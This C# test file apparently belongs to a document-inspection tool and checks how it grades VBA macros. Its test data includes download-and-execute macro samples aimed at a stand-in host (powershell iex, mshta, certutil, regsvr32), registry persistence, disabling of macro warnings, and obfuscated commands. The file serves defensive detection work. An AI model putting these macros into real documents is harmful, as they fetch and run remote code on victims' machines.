using Postvakt.Documents.Inspecting;
using Postvakt.Documents.Report;
using Postvakt.Documents.Tests.Building;

namespace Postvakt.Documents.Tests.Macros;

public sealed class MacroAssessmentTests
{
    private static InspectedFile Inspect(string source) => DocumentInspector.Inspect("vbaProject.bin", new VbaProjectWriter().Module("M", source.ReplaceLineEndings("\r\n")).ToArray(), new InspectionOptions()).Root;

    private static Severity Gravest(InspectedFile file) => file.Findings.Select(f => f.Kind.Severity).DefaultIfEmpty().Max();

    [Theory]
    [InlineData("Sub AutoOpen()\nShell \"powershell -w hidden iex (iwr http://a.example/x)\", 0\nEnd Sub")]
    [InlineData("Sub Workbook_Open()\nCreateObject(\"WScript.Shell\").Run \"mshta http://a.example/x.hta\"\nEnd Sub")]
    [InlineData("Sub Document_Open()\nShell \"powershell -enc aQBlAHgAIABoAHQAdABwADoALwAvAGEALgBlAHgAYQBtAHAAbABlAC8AeAA=\"\nEnd Sub")]
    [InlineData("Private Declare Function F Lib \"urlmon\" Alias \"URLDownloadToFileA\" (ByVal a, ByVal b, ByVal c, ByVal d, ByVal e)\nSub Auto_Open()\nF 0, \"http://a.example/1\", \"C:\\Datop\\test.test\", 0, 0\nShell \"regsvr32 -s C:\\Datop\\test.test\"\nEnd Sub")]
    [InlineData("Sub InkEdit1_GotFocus()\nSet h = CreateObject(\"MSXML2.XMLHTTP\")\nh.Open \"GET\", \"http://a.example/a.exe\", False\nh.send\nSet s = CreateObject(\"ADODB.Stream\")\ns.Write h.responseBody\ns.SaveToFile \"a.exe\"\nShell \"a.exe\"\nEnd Sub")]
    [InlineData("Sub AutoOpen()\nGetObject \"script:http://a.example/x\"\nEnd Sub")]
    [InlineData("Sub AutoOpen()\nSet x = CreateObject(\"Microsoft.XMLDOM\")\nx.load \"http://a.example/x.xsl\"\nx.transformNode x\nEnd Sub")]
    [InlineData("Sub AutoClose()\nSet w = GetObject(\"winmgmts:\" & \"root\\cimv2\")\nSet s = w.Get(\"Win32_ProcessStartup\").SpawnInstance_\ns.ShowWindow = 0\nw.Get(\"Win32_Process\").Create \"certutil -urlcache -f http://a.example/a.exe a.exe\", Null, s, p\nEnd Sub")]
    public void FetchingAndRunning_IsCritical(string source)
    {
        var file = Inspect(source);
        Assert.Contains(file.Findings, f => f.Kind == FindingKinds.MacroFetches);
        Assert.Equal(Severity.Critical, Gravest(file));
    }

    [Theory]
    [InlineData("Sub AutoOpen()\nShell \"explorer.exe \" & ActiveDocument.Path, vbNormalFocus\nEnd Sub", Severity.Low)]
    [InlineData("Sub Workbook_Open()\nOpen ThisWorkbook.Path & \"\\log.txt\" For Append As #1\nPrint #1, Now\nClose #1\nEnd Sub", Severity.Medium)]
    [InlineData("Sub Workbook_Open()\nSet h = CreateObject(\"MSXML2.XMLHTTP\")\nh.Open \"GET\", \"https://rates.example/eur.xml\", False\nh.send\nRange(\"A1\").Value = h.responseText\nEnd Sub\nSub Help_Click()\nShell \"notepad.exe readme.txt\"\nEnd Sub", Severity.Medium)]
    [InlineData("Sub AutoOpen()\nWith Application.FileDialog(1)\n.Show\nEnd With\nEnd Sub", Severity.Low)]
    [InlineData("Sub Format()\nRange(\"A1\").Font.Bold = True\nEnd Sub", Severity.Info)]
    [InlineData("Sub Workbook_Open()\nActiveWorkbook.FollowHyperlink \"https://help.example/\"\nCreateObject(\"Shell.Application\").ShellExecute \"https://help.example/\"\nEnd Sub", Severity.Low)]
    public void BusinessMacro_IsNoMoreThan(string source, Severity most) => Assert.True(Gravest(Inspect(source)) <= most, string.Join("; ", Inspect(source).Findings.Select(f => f.Kind.Id + " " + f.Text)));

    [Fact]
    public void FetchingThatNothingStarts_IsHigh()
    {
        var file = Inspect("Sub Unused()\nShell \"mshta http://a.example/x.hta\"\nEnd Sub");
        Assert.Contains(file.Findings, f => f.Kind == FindingKinds.MacroWouldFetch);
        Assert.DoesNotContain(file.Findings, f => f.Kind == FindingKinds.MacroFetches);
    }

    [Theory]
    [InlineData("CreateObject(\"WScript.Shell\").RegWrite \"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x\", \"a\"", "macro-persists")]
    [InlineData("CreateObject(\"WScript.Shell\").RegWrite \"HKCU\\Software\\Microsoft\\Office\\16.0\\Word\\Security\\VBAWarnings\", 1, \"REG_DWORD\"", "macro-weakens")]
    [InlineData("Application.AutomationSecurity = msoAutomationSecurityLow", "macro-weakens")]
    [InlineData("Open \"C:\\a\\x.vbs\" For Output As #1\nPrint #1, \"x\"\nClose #1\nShell \"wscript C:\\a\\x.vbs\", 0", "macro-drops")]
    [InlineData("CreateObject(\"WScript.Shell\").Run \"tool\", 0", "macro-hides")]
    [InlineData("ThisDocument.VBProject.VBComponents.Add(1).CodeModule.AddFromString \"Sub x()\"", "macro-writes-code")]
    [InlineData("Shell \"rund\" & \"ll32 a.dll,x\"", "macro-carrier")]
    [InlineData("Shell Replace(\"pqowqershqell -c x\", \"q\", \"\")", "macro-conceals")]
    public void Behaviour_HasItsFinding(string body, string kind) => Assert.Contains(Inspect($"Sub AutoOpen()\n{body}\nEnd Sub").Findings, f => f.Kind.Id == kind);
}
